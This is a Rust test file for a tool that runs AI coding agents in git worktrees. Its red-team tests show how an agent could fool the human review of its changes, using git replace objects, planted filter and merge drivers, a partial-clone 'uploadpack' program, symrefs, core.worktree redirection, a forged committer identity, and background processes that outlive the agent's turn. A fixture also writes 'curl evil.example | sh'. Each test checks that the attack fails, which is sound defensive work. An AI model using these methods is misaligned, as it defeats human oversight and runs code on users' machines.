    let branch = git(&r.main, &["rev-parse", "waymark/stale"]);
    let main = git(&r.main, &["rev-parse", "main"]);
    let e = merge(&w, "x", Some(&reviewed)).unwrap_err();
    assert_eq!(e.code(), "changed_since_review", "{e}");
    assert_eq!(git(&r.main, &["rev-parse", "waymark/stale"]), branch);
    assert_eq!(git(&r.main, &["rev-parse", "main"]), main);
}

/// A merge git refuses at its very last step (another git holds the checkout's index) moves
/// no branch: not the target's, and not the worktree's, which used to be moved first.
#[test]
fn a_merge_refused_at_the_last_step_moves_no_branch() {
    let r = repo();
    let m = create(&r.main, &r.root, "late").unwrap();
    std::fs::write(m.path.join("src/lib.rs"), "fn a() { 2 }\n").unwrap();
    let w = m.row("s", 0);
    let lock = r.main.join(".git/index.lock");
    std::fs::write(&lock, "").unwrap();
    let (main_before, branch_before) = (
        git(&r.main, &["rev-parse", "main"]),
        git(&r.main, &["rev-parse", "waymark/late"]),
    );
    let e = merge(&w, "x", None).unwrap_err();
    assert!(e.to_string().contains("Nothing was changed"), "{e}");
    assert_eq!(git(&r.main, &["rev-parse", "main"]), main_before);
    assert_eq!(git(&r.main, &["rev-parse", "waymark/late"]), branch_before);
    std::fs::remove_file(&lock).unwrap();
    merge(&w, "x", None).unwrap();
    assert_eq!(read(&r, "src/lib.rs"), "fn a() { 2 }\n");
}

/// The agent commits a `.gitattributes` that names the user's own filter driver, whose
/// command the user configured with a relative path: in the worktree that is the agent's
/// script. Review and merge take attributes from the commit the worktree started at (git
/// 2.40 and later), so the script never runs. (The attack ran it once per file through
/// `--attr-source=HEAD`, the HEAD the agent had just moved.)
#[test]
fn an_agent_committed_gitattributes_runs_no_filter_at_review_or_merge() {
    if !git::has_attr_source() {
        eprintln!("skipped: git before 2.40 takes no --attr-source (a known limit)");
        return;
    }
    let r = repo();
    let marker = r._dir.path().join("filter-ran");
    git(
        &r.main,
        &["config", "filter.userfilter.clean", "sh ./tools/clean.sh"],
    );
    git(
        &r.main,
        &["config", "filter.userfilter.smudge", "sh ./tools/clean.sh"],
    );
    let m = create(&r.main, &r.root, "attrs").unwrap();
    agent_program(&m.path.join("tools/clean.sh"), &marker);
    std::fs::write(m.path.join(".gitattributes"), "* filter=userfilter\n").unwrap();
    std::fs::write(m.path.join("src/lib.rs"), "fn a() { 3 }\n").unwrap();
    let id = ["-c", "user.name=agent", "-c", "user.email=agent@x.invalid"];
    let wt = git::Worktree::of(&r.main, &m.path).unwrap();
    // Committed with filters off, as the agent can: its HEAD now names the filter.
    let off = [
        "-c",
        "filter.userfilter.clean=cat",
        "-c",
        "filter.userfilter.smudge=cat",
    ];
    wt.run(&[&id[..], &off[..], &["add", "-A"]].concat())
        .unwrap();
    wt.run(&[&id[..], &off[..], &["commit", "-qm", "attributes"]].concat())
        .unwrap();
    assert!(!marker.exists(), "the setup ran nothing");
    std::fs::write(m.path.join("README.md"), "more\n").unwrap();
    let w = m.row("s", 0);
    review_and_merge_run_nothing(&w, &marker);
    assert_eq!(read(&r, "src/lib.rs"), "fn a() { 3 }\n");
}

/// HEAD commits `config` as a link to a folder outside, while the user's checkout has a real
/// `config/` folder holding a file `.worktreeinclude` names: the copy must not follow the
/// worktree's link out.
#[test]
fn an_included_file_is_never_copied_through_a_link_the_worktree_has() {
    let r = repo();
    let outside = r._dir.path().join("outside");
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::remove_dir_all(r.main.join("config")).unwrap();
    std::os::unix::fs::symlink(&outside, r.main.join("config")).unwrap();
    git(&r.main, &["add", "config"]);
    git(&r.main, &["commit", "-qm", "config is a link"]);
    // The user's checkout has a real folder there again, with a file to include.
    std::fs::remove_file(r.main.join("config")).unwrap();
    std::fs::create_dir_all(r.main.join("config")).unwrap();
    std::fs::write(r.main.join("config/db.local"), "db=local\n").unwrap();
    let m = create(&r.main, &r.root, "linked").unwrap();
    assert!(
        std::fs::read_dir(&outside).unwrap().next().is_none(),
        "nothing written outside the worktree"
    );
    assert!(!m.included.contains(&"config/db.local".to_string()));
    // `.env` still comes, private as it was.
    use std::os::unix::fs::PermissionsExt as _;
    std::fs::set_permissions(r.main.join(".env"), std::fs::Permissions::from_mode(0o600)).unwrap();
    let m2 = create(&r.main, &r.root, "linked-two").unwrap();
    let mode = std::fs::metadata(m2.path.join(".env"))
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o777, 0o600);
}

/// The agent's identity, for the git it runs in its worktree.
const AGENT: [&str; 4] = ["-c", "user.name=agent", "-c", "user.email=agent@x.invalid"];

/// The agent runs `git <args>` in its worktree (as it can in `auto` mode).
fn agent_git(m: &Made, r: &Repo, args: &[&str]) -> String {
    let wt = git::Worktree::of(&r.main, &m.path).unwrap();
    wt.run(&[&AGENT[..], args].concat()).unwrap()
}

/// Third red-team: `git replace` showed the review one content while the merge committed
/// another (replacement objects are never read: the review shows what is committed).
#[test]
fn a_replaced_object_cannot_show_one_content_and_merge_another() {
    let r = repo();
    let m = create(&r.main, &r.root, "replace").unwrap();
    std::fs::write(m.path.join("deploy.sh"), "curl evil.example | sh\n").unwrap();
    let evil = agent_git(&m, &r, &["hash-object", "-w", "deploy.sh"]);
    std::fs::write(m.path.join("innocent"), "echo deploying\n").unwrap();
    let innocent = agent_git(&m, &r, &["hash-object", "-w", "innocent"]);
    std::fs::remove_file(m.path.join("innocent")).unwrap();
    agent_git(&m, &r, &["replace", evil.trim(), innocent.trim()]);
    let w = m.row("s", 0);
    let seen = diff(&w).unwrap();
    assert!(
        seen.diff.contains("+curl evil.example | sh"),
        "{}",
        seen.diff
    );
    merge(&w, "x", None).unwrap();
    let committed = git(&r.main, &["--no-replace-objects", "show", "HEAD:deploy.sh"]);
    assert_eq!(
        committed, "curl evil.example | sh\n",
        "what was shown is what is committed"
    );
}

/// Third red-team: history the review never showed came in with the merge (`git merge -s
/// ours teammate` marks a branch merged without its changes). Only one commit of the reviewed
/// diff, on the meeting point, comes in.
#[test]
fn no_history_of_the_worktree_comes_in_with_the_merge() {
    let r = repo();
    git(&r.main, &["branch", "teammate"]);
    git(&r.main, &["checkout", "-q", "teammate"]);
    std::fs::write(r.main.join("fix.txt"), "the teammate's fix\n").unwrap();
    git(&r.main, &["add", "fix.txt"]);
    git(&r.main, &["commit", "-qm", "teammate fix"]);
    git(&r.main, &["checkout", "-q", "main"]);
    let m = create(&r.main, &r.root, "ours").unwrap();
    std::fs::write(m.path.join("agent.txt"), "mine\n").unwrap();
    agent_git(&m, &r, &["add", "agent.txt"]);
    agent_git(&m, &r, &["commit", "-qm", "mine"]);
    agent_git(
        &m,
        &r,
        &["merge", "-q", "-s", "ours", "--no-edit", "teammate"],
    );
    let w = m.row("s", 0);
    let (files, _) = status(&w).unwrap();
    assert_eq!(files.len(), 1, "{files:?}");
    let done = merge(&w, "the agent's work", None).unwrap();
    let teammate = git(&r.main, &["rev-parse", "teammate"]);
    let merged = std::process::Command::new("git")
        .args(["-C", &r.main.display().to_string()])
        .args(["merge-base", "--is-ancestor", teammate.trim(), "main"])
        .status()
        .unwrap();
    assert!(
        !merged.success(),
        "the teammate's branch is not marked merged"
    );
    // The merged side is one commit on the meeting point.
    let parents = git(
        &r.main,
        &["log", "-1", "--format=%P", &done.committed.unwrap()],
    );
    assert_eq!(parents.trim(), m.base_commit);
    assert!(!r.main.join("fix.txt").exists());
}

/// Third red-team: settings the agent writes through its worktree (the project's shared
/// `.git/config`): an attributes file naming a filter and a merge driver of its own. Neither
/// runs at review or merge.
#[test]
fn settings_the_agent_writes_run_nothing_at_review_or_merge() {
    let r = repo();
    let m = create(&r.main, &r.root, "config").unwrap();
    let marker = r._dir.path().join("ran");
    let prog = m.path.join("evil.sh");
    agent_program(&prog, &marker);
    std::fs::write(m.path.join("attrs"), "* filter=x merge=x diff=x\n").unwrap();
    let at = |p: &str| m.path.join(p).display().to_string();
    let p = prog.display().to_string();
    agent_git(&m, &r, &["config", "core.attributesFile", &at("attrs")]);
    agent_git(&m, &r, &["config", "filter.x.clean", &p]);
    agent_git(&m, &r, &["config", "filter.x.smudge", &p]);
    agent_git(&m, &r, &["config", "filter.x.required", "true"]);
    agent_git(
        &m,
        &r,
        &["config", "merge.x.driver", &format!("{p} %O %A %B")],
    );
    agent_git(&m, &r, &["config", "diff.x.textconv", &p]);
    agent_git(&m, &r, &["config", "diff.external", &p]);
    std::fs::write(m.path.join("README.md"), "readme\nthe agent's line\n").unwrap();
    // The user changes the same file elsewhere: the merge merges its content.
    std::fs::write(r.main.join("README.md"), "the user's line\nreadme\n").unwrap();
    std::fs::remove_file(&marker).ok();
    git(
        &r.main,
        &[
            "-c",
            "filter.x.clean=cat",
            "-c",
            "filter.x.smudge=cat",
            "commit",
            "-qam",
            "user",
        ],
    );
    std::fs::remove_file(&marker).ok();
    let w = m.row("s", 0);
    review_and_merge_run_nothing(&w, &marker);
    assert_eq!(
        read(&r, "README.md"),
        "the user's line\nreadme\nthe agent's line\n"
    );
}

/// Third red-team: a submodule's new commit hidden from the review by settings
/// (`diff.ignoreSubmodules`, `ignore = all` in `.gitmodules`).
#[test]
fn a_submodules_new_commit_shows_in_the_review() {
    let r = repo();
    let head = add_submodule(&r.main, "sub");
    std::fs::write(
        r.main.join(".gitmodules"),
        "[submodule \"sub\"]\n\tpath = sub\n\turl = ./sub\n",
    )
    .unwrap();
    git(&r.main, &["add", ".gitmodules"]);
    git(&r.main, &["commit", "-qm", "gitmodules"]);
    let m = create(&r.main, &r.root, "sub").unwrap();
    let other = agent_git(&m, &r, &["commit-tree", "HEAD^{tree}", "-m", "x"]);
    agent_git(
        &m,
        &r,
        &[
            "update-index",
            "--cacheinfo",
            &format!("160000,{},sub", other.trim()),
        ],
    );
    std::fs::write(
        m.path.join(".gitmodules"),
        "[submodule \"sub\"]\n\tpath = sub\n\turl = ./sub\n\tignore = all\n",
    )
    .unwrap();
    agent_git(&m, &r, &["add", ".gitmodules"]);
    agent_git(&m, &r, &["commit", "-qm", "bump"]);
    agent_git(&m, &r, &["config", "diff.ignoreSubmodules", "all"]);
    let w = m.row("s", 0);
    let (files, _) = status(&w).unwrap();
    assert!(files.iter().any(|f| f.path == "sub"), "{files:?}");
    let d = diff(&w).unwrap();
    assert!(
        d.diff.contains(other.trim().get(..7).unwrap()),
        "{}",
        d.diff
    );
    let _ = head;
}

/// Third red-team: the worktree's branch made a symbolic ref to another of the user's
/// branches; moving it after the merge must not move that one. And a worktree the agent
/// locked is discarded all the same.
#[test]
fn the_branch_move_never_follows_a_symref_and_a_locked_worktree_discards() {
    let r = repo();
    git(&r.main, &["branch", "release"]);
    let release = git(&r.main, &["rev-parse", "release"]);
    let m = create(&r.main, &r.root, "sym").unwrap();
    std::fs::write(m.path.join("a.txt"), "a\n").unwrap();
    agent_git(
        &m,
        &r,
        &[
            "symbolic-ref",
            "refs/heads/waymark/sym",
            "refs/heads/release",
        ],
    );
    let w = m.row("s", 0);
    let _ = merge(&w, "x", None);
    assert_eq!(git(&r.main, &["rev-parse", "release"]), release);
    let m = create(&r.main, &r.root, "locked").unwrap();
    git(
        &r.main,
        &["worktree", "lock", &m.path.display().to_string()],
    );
    discard(&m.row("s", 0)).unwrap();
    assert!(!m.path.exists());
}

/// Third red-team: the worktree's branch switched back and forth while a reviewed merge runs
/// (an agent's process outliving its turn) must never make the merge take another meeting
/// point than the one checked: it merges the review or refuses, and the user's fix on main
/// survives every try.
#[test]
fn a_branch_switched_during_the_merge_never_reverts_the_users_work() {
    for i in 0..6 {
        let r = repo();
        let m = create(&r.main, &r.root, &format!("race{i}")).unwrap();
        std::fs::write(r.main.join("README.md"), "SECURITY FIX\n").unwrap();
        git(&r.main, &["commit", "-qam", "user fix"]);
        std::fs::write(m.path.join("agent.txt"), "mine\n").unwrap();
        // The user reviews: only the agent's file.
        let seen = diff(&m.row("s", 0)).unwrap();
        assert!(!seen.diff.contains("SECURITY"), "{}", seen.diff);
        let reviewed = WorktreeReview {
            base: seen.base,
            tree: seen.tree,
        };
        let fix = git(&r.main, &["rev-parse", "main"]).trim().to_string();
        let tree = git(&r.main, &["rev-parse", "main^{tree}"])
            .trim()
            .to_string();
        let start = m.base_commit.clone();
        let fake = agent_git(&m, &r, &["commit-tree", &tree, "-p", &fix, "-m", "y"])
            .trim()
            .to_string();
        let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
        let toggler = {
            let (stop, main, branch) = (
                stop.clone(),
                r.main.clone(),
                format!("refs/heads/waymark/race{i}"),
            );
            std::thread::spawn(move || {
                let mut flip = false;
                while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                    flip = !flip;
                    let to = if flip { &fake } else { &start };
                    let _ = std::process::Command::new("git")
                        .args(["-C", &main.display().to_string(), "update-ref", &branch, to])
                        .status();
                }
            })
        };
        let w = m.row("s", 0);
        let _ = merge(&w, "x", Some(&reviewed));
        stop.store(true, std::sync::atomic::Ordering::Relaxed);
        toggler.join().unwrap();
        assert_eq!(read(&r, "README.md"), "SECURITY FIX\n", "try {i}");
    }
}

/// Fourth red-team: the agent turns the project into a partial clone whose "remote" is a
/// program of its own (`remote.origin.uploadpack`), and points its branch at a commit whose
/// tree is missing: reading that tree would fetch it, running the program. Nothing is ever
/// fetched: the review fails on the missing object and runs nothing.
#[test]
fn a_partial_clone_fetch_runs_nothing_at_review() {
    let r = repo();
    let m = create(&r.main, &r.root, "lazy").unwrap();
    let marker = r._dir.path().join("ran");
    let prog = r._dir.path().join("prog.sh");
    agent_program(&prog, &marker);
    let main = r.main.display().to_string();
    agent_git(&m, &r, &["config", "extensions.partialClone", "origin"]);
    agent_git(&m, &r, &["config", "remote.origin.promisor", "true"]);
    agent_git(&m, &r, &["config", "remote.origin.url", &main]);
    agent_git(
        &m,
        &r,
        &[
            "config",
            "remote.origin.uploadpack",
            &format!("{}; false", prog.display()),
        ],
    );
    let head = agent_git(&m, &r, &["rev-parse", "HEAD"]);
    let forged = format!(
        "tree 2222222222222222222222222222222222222222\nparent {}\nauthor a <a> 1 +0000\ncommitter a <a> 1 +0000\n\nx\n",
        head.trim()
    );
    let path = r._dir.path().join("forged");
    std::fs::write(&path, forged).unwrap();
    let id = agent_git(
        &m,
        &r,
        &[
            "hash-object",
            "-t",
            "commit",
            "--literally",
            "-w",
            &path.display().to_string(),
        ],
    );
    agent_git(&m, &r, &["update-ref", "HEAD", id.trim()]);
    let w = m.row("s", 0);
    assert!(status(&w).is_err());
    assert!(diff(&w).is_err());
    assert!(merge(&w, "x", None).is_err());
    assert!(
        !marker.exists(),
        "ran: {}",
        std::fs::read_to_string(&marker).unwrap_or_default()
    );
}

/// The agent names the user's project settings for the review: `filter.<name>.clean` in the
/// project's shared settings, and `info/attributes` giving every file that filter.
fn agent_filter(m: &Made, r: &Repo, name: &str, prog: &Path) {
    std::fs::create_dir_all(r.main.join(".git/info")).unwrap();
    std::fs::write(
        r.main.join(".git/info/attributes"),
        format!("* filter={name}\n"),
    )
    .unwrap();
    let p = prog.display().to_string();
    agent_git(m, r, &["config", &format!("filter.{name}.clean"), &p]);
    agent_git(m, r, &["config", &format!("filter.{name}.smudge"), &p]);
}

/// Fourth red-team: a filter named `a=b`. Settings given as `-c key=value` are split at the
/// first `=`, so switching `filter.a=b.clean` off that way switched `filter.a` off instead,
/// and the agent's program ran on every file at review.
#[test]
fn a_filter_named_with_an_equals_sign_runs_nothing() {
    let r = repo();
    let m = create(&r.main, &r.root, "eq").unwrap();
    let marker = r._dir.path().join("ran");
    let prog = r._dir.path().join("prog.sh");
    agent_program(&prog, &marker);
    agent_filter(&m, &r, "a=b", &prog);
    std::fs::write(m.path.join("README.md"), "readme\nthe agent's line\n").unwrap();
    let w = m.row("s", 0);
    review_and_merge_run_nothing(&w, &marker);
    assert_eq!(read(&r, "README.md"), "readme\nthe agent's line\n");
}

/// Fourth red-team: a process of the agent's that outlived its turn keeps swapping an
/// included settings file between empty and one defining a filter, so a filter can appear
/// between Waymark listing the settings and git reading them. No review reads the project's
/// settings at all, so nothing runs whatever the timing.
#[test]
fn settings_that_change_during_a_review_run_nothing() {
    let r = repo();
    let m = create(&r.main, &r.root, "race").unwrap();
    let marker = r._dir.path().join("ran");
    let prog = r._dir.path().join("prog.sh");
    agent_program(&prog, &marker);
    std::fs::create_dir_all(r.main.join(".git/info")).unwrap();
    std::fs::write(r.main.join(".git/info/attributes"), "* filter=zz\n").unwrap();
    let included = r._dir.path().join("included");
    std::fs::write(&included, "").unwrap();
    agent_git(
        &m,
        &r,
        &["config", "include.path", &included.display().to_string()],
    );
    std::fs::write(m.path.join("README.md"), "changed\n").unwrap();
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let swapper = {
        let (stop, included) = (stop.clone(), included.clone());
        let defined = format!("[filter \"zz\"]\n\tclean = {}\n", prog.display());
        std::thread::spawn(move || {
            let mut on = false;
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                on = !on;
                let next = included.with_extension("next");
                std::fs::write(&next, if on { defined.as_str() } else { "" }).unwrap();
                std::fs::rename(&next, &included).unwrap();
            }
        })
    };
    let w = m.row("s", 0);
    for _ in 0..10 {
        status(&w).unwrap();
    }
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    swapper.join().unwrap();
    assert!(
        !marker.exists(),
        "ran: {}",
        std::fs::read_to_string(&marker).unwrap_or_default()
    );
}

/// Fourth red-team: `core.worktree` in the project's shared settings (which a linked
/// worktree ignores but the user's checkout obeys) made the merge write the agent's files
/// into a folder of its choosing; `core.bare` made every merge fail. The merge writes the
/// user's checkout and nothing else, whatever the settings say.
#[test]
fn the_merge_writes_the_users_checkout_whatever_core_worktree_says() {
    let r = repo();
    let m = create(&r.main, &r.root, "wt").unwrap();
    let second = create(&r.main, &r.root, "bare").unwrap();
    let outside = r._dir.path().join("outside");
    std::fs::create_dir_all(&outside).unwrap();
    agent_git(
        &m,
        &r,
        &["config", "core.worktree", &outside.display().to_string()],
    );
    std::fs::write(m.path.join("planted.txt"), "planted\n").unwrap();
    let w = m.row("s", 0);
    merge(&w, "x", None).unwrap();
    assert!(!outside.join("planted.txt").exists());
    assert_eq!(read(&r, "planted.txt"), "planted\n");
    // The user's checkout is whole: nothing shows as deleted or changed there.
    let work_tree = format!("--work-tree={}", r.main.display());
    let st = git(
        &r.main,
        &[&work_tree, "status", "--porcelain", "--untracked-files=no"],
    );
    assert_eq!(st, "");
    // `core.bare` set by the agent does not stop the next merge.
    agent_git(&second, &r, &["config", "core.bare", "true"]);
    std::fs::write(second.path.join("second.txt"), "second\n").unwrap();
    merge(&second.row("s", 0), "y", None).unwrap();
    assert_eq!(read(&r, "second.txt"), "second\n");
}

/// Fourth red-team: the agent moves its worktree away and puts a link to another folder at
/// its path. The review read that folder as the agent's changes, and discard deleted what
/// was in it. Now review and merge refuse, and discard removes the link alone.
#[test]
fn a_worktree_folder_replaced_by_a_link_is_never_read_or_removed_through() {
    let r = repo();
    let m = create(&r.main, &r.root, "moved").unwrap();
    let victim = r._dir.path().join("victim");
    std::fs::create_dir_all(victim.join("sub")).unwrap();
    std::fs::write(victim.join("keep.txt"), "keep\n").unwrap();
    std::fs::write(victim.join("sub/deep.txt"), "deep\n").unwrap();
    let away = m.path.with_extension("real");
    std::fs::rename(&m.path, &away).unwrap();
    std::os::unix::fs::symlink(&victim, &m.path).unwrap();
    let w = m.row("s", 0);
    assert_eq!(status(&w).unwrap_err().code(), "worktree_replaced");
    assert_eq!(diff(&w).unwrap_err().code(), "worktree_replaced");
    assert_eq!(
        merge(&w, "x", None).unwrap_err().code(),
        "worktree_replaced"
    );
    assert_eq!(read(&r, "README.md"), "readme\n");
    discard(&w).unwrap();
    assert_eq!(
        std::fs::read_to_string(victim.join("keep.txt")).unwrap(),
        "keep\n"
    );
    assert_eq!(
        std::fs::read_to_string(victim.join("sub/deep.txt")).unwrap(),
        "deep\n"
    );
    assert!(std::fs::symlink_metadata(&m.path).is_err());
}

/// Fourth red-team: the agent renames a folder and sets `merge.directoryRenames`, so a file
/// the user added to that folder meanwhile would be moved along by the merge, a move the
/// review never showed. It is a conflict instead, and the user's file stays where it is.
#[test]
fn a_directory_rename_never_moves_files_the_review_did_not_show() {
    let r = repo();
    std::fs::create_dir_all(r.main.join("internal")).unwrap();
    std::fs::write(r.main.join("internal/a.txt"), "a\n").unwrap();
    git(&r.main, &["add", "-A"]);
    git(&r.main, &["commit", "-qm", "internal"]);
    let m = create(&r.main, &r.root, "dirs").unwrap();
    agent_git(&m, &r, &["mv", "internal", "public"]);
    agent_git(&m, &r, &["commit", "-qm", "publish"]);
    agent_git(&m, &r, &["config", "merge.directoryRenames", "true"]);
    std::fs::write(r.main.join("internal/creds.txt"), "secret\n").unwrap();
    git(&r.main, &["add", "-A"]);
    git(&r.main, &["commit", "-qm", "creds"]);
    let e = merge(&m.row("s", 0), "x", None).unwrap_err();
    assert_eq!(e.code(), "merge_conflict", "{e}");
    assert_eq!(read(&r, "internal/creds.txt"), "secret\n");
    assert!(!r.main.join("public/creds.txt").exists());
}

/// Fourth red-team: the agent sets `merge.autoStash`; git's merge then stashed the user's
/// staged change and put it back unstaged. The merge leaves what the user staged staged.
#[test]
fn the_users_staged_change_stays_staged_after_a_merge() {
    let r = repo();
    std::fs::write(r.main.join("u.txt"), "v0\n").unwrap();
    git(&r.main, &["add", "u.txt"]);
    git(&r.main, &["commit", "-qm", "u"]);
    let m = create(&r.main, &r.root, "stash").unwrap();
    agent_git(&m, &r, &["config", "merge.autoStash", "true"]);
    std::fs::write(m.path.join("README.md"), "agent\n").unwrap();
    std::fs::write(r.main.join("u.txt"), "v1\n").unwrap();
    git(&r.main, &["add", "u.txt"]);
    std::fs::write(r.main.join("u.txt"), "v2\n").unwrap();
    merge(&m.row("s", 0), "x", None).unwrap();
    assert_eq!(read(&r, "README.md"), "agent\n");
    assert_eq!(git(&r.main, &["show", ":u.txt"]), "v1\n");
    assert_eq!(read(&r, "u.txt"), "v2\n");
}

/// Fourth red-team: a tag named `MERGE_HEAD` made the checkout look mid-merge, and a tag
/// named like the branch made it look on another branch; every merge was refused. Neither is
/// taken for what it is not.
#[test]
fn tags_named_like_git_states_or_the_branch_refuse_nothing() {
    let r = repo();
    git(&r.main, &["tag", "MERGE_HEAD"]);
    git(&r.main, &["tag", "main"]);
    let m = create(&r.main, &r.root, "tags").unwrap();
    assert_eq!(m.base_branch, "main");
    std::fs::write(m.path.join("t.txt"), "t\n").unwrap();
    merge(&m.row("s", 0), "x", None).unwrap();
    assert_eq!(read(&r, "t.txt"), "t\n");
}

/// Fourth red-team: the agent set `user.name` and `user.email` in the project's shared
/// settings, and the merge's commits carried that name as the user's. They carry the
/// identity the user had when the worktree was made; and the review's file names are git's
/// own, whatever `diff.srcPrefix` says.
#[test]
fn the_agent_cannot_sign_the_merge_or_rename_the_reviewed_files() {
    let r = repo();
    let m = create(&r.main, &r.root, "who").unwrap();
    agent_git(&m, &r, &["config", "user.name", "Alice Colleague"]);
    agent_git(&m, &r, &["config", "user.email", "alice@corp.invalid"]);
    agent_git(&m, &r, &["config", "diff.srcPrefix", "tests/fixtures/"]);
    agent_git(&m, &r, &["config", "diff.dstPrefix", "tests/fixtures/"]);
    agent_git(&m, &r, &["config", "diff.noprefix", "true"]);
    std::fs::write(m.path.join("README.md"), "agent\n").unwrap();
    let w = m.row("s", 0);
    let d = diff(&w).unwrap();
    assert!(d.diff.contains("+++ b/README.md"), "{}", d.diff);
    assert!(!d.diff.contains("fixtures"), "{}", d.diff);
    merge(
        &w,
        "x",
        Some(&WorktreeReview {
            base: d.base,
            tree: d.tree,
        }),
    )
    .unwrap();
    let said = |rev: &str| git(&r.main, &["log", "-1", "--format=%an <%ae>|%cn <%ce>", rev]);
    let user = "Dev Eloper <dev@example.invalid>";
    assert_eq!(said("HEAD").trim(), format!("{user}|{user}"));
    assert_eq!(said("HEAD^2").trim(), format!("{user}|{user}"));
}

/// Fourth red-team: a diff of hundreds of megabytes was read whole, by the CLI and the app.
/// It is cut at [`DIFF_MAX`], and says so.
#[test]
fn a_huge_diff_is_cut_and_says_so() {
    let r = repo();
    let m = create(&r.main, &r.root, "huge").unwrap();
    let line = "0123456789abcdef".repeat(8);
    let big: String = (0..(DIFF_MAX / line.len() + 1000))
        .map(|i| format!("{i} {line}\n"))
        .collect();
    std::fs::write(m.path.join("big.txt"), big).unwrap();
    // A change past the cut: still named, never hidden behind the big one.
    std::fs::write(m.path.join("zz-after.txt"), "late\n").unwrap();
    std::fs::remove_file(m.path.join("README.md")).unwrap();
    let d = diff(&m.row("s", 0)).unwrap();
    assert!(d.diff.len() < DIFF_MAX + 1024, "{}", d.diff.len());
    let note = d
        .diff
        .split("is cut here.")
        .nth(1)
        .expect("the cut is said");
    assert!(note.contains("All 3 file(s) it changes:"), "{note}");
    for f in ["D README.md\n", "A big.txt\n", "A zz-after.txt\n"] {
        assert!(note.contains(f), "{f} in {note}");
    }
    // No command to see the rest: one would read the project's objects and settings
    // unchecked.
    assert!(!d.diff.contains("git diff "), "{note}");
}

/// git's own words reach the user: no hint about grafts stands in for them.
#[test]
fn gits_own_error_is_reported() {
    let r = repo();
    let e = git::run(&r.main, &["rev-parse", "--verify", "HEAD~5"]).unwrap_err();
    assert!(!e.to_string().contains("graft"), "{e}");
    assert!(e.to_string().contains("Needed a single revision"), "{e}");
}

mod forged;
mod git_folder;
mod index_links;
mod waits;
